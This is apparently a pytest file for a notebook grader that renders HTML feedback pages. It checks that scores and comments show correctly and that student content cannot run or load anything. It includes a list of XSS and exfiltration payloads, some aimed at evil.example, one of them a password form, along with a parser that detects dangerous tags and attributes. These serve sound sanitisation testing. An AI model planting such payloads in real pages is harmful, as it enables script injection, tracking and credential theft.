"""A feedback page says what a student got and why, and nothing in it can run or load anything."""

import re
from html.parser import HTMLParser

import pytest

from graders.contract import Flag, Isolation, Outcome, ReportState, Text
from graders.feedback import FeedbackOptions, ManualMark, feedback_files, make_feedback
from tests.graders.reports import code, display, graded, markdown, notebook, report, stream

PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="
MESSAGE = Text(ko="결과가 다릅니다.", en="The result differs.")


def page(*cells, made=None, **options):
    return make_feedback(made or report(graded(), notebooks=[notebook(*cells)]), FeedbackOptions("과제 1", **options))


def test_points_outcome_and_message_of_every_cell_are_told():
    made = report(graded("t1"), graded("t2", 0.5, Outcome.PARTIAL, message=MESSAGE))
    shown = page(made=made)
    assert "2.5" in shown
    assert "부분 점수" in shown
    assert MESSAGE.ko in shown


def test_the_page_speaks_english_when_asked():
    shown = page(made=report(graded(points=0, outcome=Outcome.FAILED, message=MESSAGE)), language="en")
    assert '<html lang="en">' in shown
    assert MESSAGE.en in shown
    assert MESSAGE.ko not in shown


@pytest.mark.parametrize("outcome", list(Outcome))
@pytest.mark.parametrize("language", ["ko", "en"])
def test_every_outcome_has_its_words(outcome, language):
    points = None if outcome in (Outcome.MANUAL, Outcome.AUTHOR_ERROR, Outcome.NOT_RUN) else 0
    assert page(made=report(graded(points=points, outcome=outcome)), language=language)


@pytest.mark.parametrize("state", [ReportState.REFUSED, ReportState.NOT_GRADED, ReportState.NEEDS_PERSON])
def test_every_other_state_shows_its_reason(state):
    assert "이유" in page(made=report(state=state))


def test_outputs_are_shown():
    html = "<table><tr><th>온도</th></tr></table>"
    shown = page(code("f()", None, [stream("출력\n"), display(**{"text/html": html}), display(**{"image/png": PNG})]))
    assert "출력" in shown
    assert "<th>온도</th>" in shown
    assert f"data:image/png;base64,{PNG}" in shown


def test_pictures_attached_to_an_answer_are_embedded():
    answer = markdown("![그림](attachment:p.png)", attachments={"p.png": {"image/png": PNG}})
    assert f'src="data:image/png;base64,{PNG}"' in page(answer)


def test_a_persons_points_and_comment_are_shown():
    made = report(graded("why", None, Outcome.MANUAL))
    shown = page(made=made, marks={("a.ipynb", "why"): ManualMark(1.5, "**좋습니다**")}, overall="수고했습니다")
    assert "1.5 / 2" in shown
    assert "<strong>좋습니다</strong>" in shown
    assert "수고했습니다" in shown


def test_points_that_a_person_still_gives_are_told():
    assert "2점 채점 전" in page(made=report(graded("why", None, Outcome.MANUAL)))


def test_a_test_that_ran_beside_the_students_code_says_so():
    assert "같은 프로세스" in page(made=report(graded(isolation=Isolation.IN_PROCESS)))


def test_flags_are_told_as_notes():
    flag = Flag(code="locked_edited", notebook="a.ipynb", message=Text(ko="잠긴 셀", en="locked"))
    assert "잠긴 셀" in page(made=report(graded(), flags=(flag,)))


ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/pixel.png'>",
    "<img src='//evil.example/pixel.png'>",
    "<img srcset='https://evil.example/x 2x' src='data:image/svg+xml;base64,AAAA'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' data:text/html,<script>alert(1)</script>'>x</a>",
    "<iframe src='https://evil.example'></iframe>",
    "<style>@import url(https://evil.example/x.css)</style>",
    "<p style='background:url(https://evil.example/x)'>x</p>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<svg onload=alert(1)><image href='https://evil.example/x'/></svg>",
    "<form action='https://evil.example'><input name=password></form>",
    "<base href='https://evil.example/'>",
    "<video src='https://evil.example/x' autoplay></video>",
    "<object data='https://evil.example/x'></object>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "![x](https://evil.example/pixel.png)",
    "[x](javascript:alert(1))",
    "</code></pre><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
]

ACTING_TAGS = {
    "script",
    "iframe",
    "object",
    "embed",
    "svg",
    "math",
    "form",
    "input",
    "button",
    "base",
    "link",
    "video",
    "audio",
}
LOADING = {"src", "srcset", "action", "formaction", "data", "poster", "background", "style", "ping"}


class Danger(HTMLParser):
    """Collects what in a page could act or load."""

    def __init__(self, shown):
        super().__init__()
        self.found = []
        self.metas = 0
        self.feed(shown)

    def handle_starttag(self, tag, attrs):
        self.metas += tag == "meta"
        self.found += [tag] if tag in ACTING_TAGS else []
        self.found += [pair for pair in attrs if self.is_dangerous(*pair)]

    def is_dangerous(self, name, value):
        if name in LOADING:
            return not re.fullmatch(r"data:image/(png|jpeg|gif|webp|svg\+xml);base64,[\w+/=]+", value or "")
        if name == "href":
            return not re.match(r"#|https?://|mailto:", value or "")
        return name.startswith("on")


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("place", ["markdown", "html", "comment", "overall"])
def test_nothing_of_a_student_acts_or_loads(attack, place):
    cells = {"markdown": markdown(attack), "html": code("x", None, [display(**{"text/html": attack})])}
    marks = {("a.ipynb", "test-1"): ManualMark(comment=attack)} if place == "comment" else {}
    shown = page(*[cells[place]] if place in cells else [], marks=marks, overall=attack if place == "overall" else None)
    danger = Danger(shown)
    assert (danger.found, danger.metas) == ([], 4)


def test_the_check_for_danger_sees_danger():
    assert all(Danger(attack).found or Danger(attack).metas for attack in ATTACKS[:3])


@pytest.mark.parametrize("attack", ATTACKS)
def test_text_of_a_student_is_never_markup(attack):
    shown = page(code(attack, None, [stream(attack), {"output_type": "error", "traceback": [attack]}]))
    for tag in re.findall(r"<\w+[^>]*>", attack):
        assert tag not in shown.split("</style>", 1)[1]


def test_terminal_escapes_do_not_reach_the_page():
    assert "\x1b" not in page(code("x", None, [stream("\x1b[31mred\x1b[0m \x1b]0;title\x07 \x08")]))


def test_progress_bars_show_their_last_state():
    shown = page(code("x", None, [stream("10%\r50%\r100%\n")]))
    assert "100%" in shown
    assert "50%" not in shown.split("</style>")[1]


def test_the_pages_own_policy_forbids_scripts_and_requests():
    assert "default-src 'none'" in page()


def test_very_long_output_is_cut():
    assert len(page(code("x", None, [stream("a" * 1_000_000)]))) < 100_000


def test_each_notebook_gets_a_page_named_as_nbgrader_names_it():
    made = report(graded(), notebooks=[notebook(path="a.ipynb"), notebook(path="b.ipynb")])
    assert list(feedback_files(made, FeedbackOptions("과제"))) == ["a.html", "b.html"]


def test_a_report_without_notebooks_still_gives_a_page():
    assert list(feedback_files(report(state=ReportState.REFUSED), FeedbackOptions("과제"))) == ["feedback.html"]


@pytest.mark.parametrize("title", ["<script>alert(1)</script>", "과제 '1' & \"2\""])
def test_the_title_is_text(title):
    assert title not in make_feedback(report(graded()), FeedbackOptions(title))
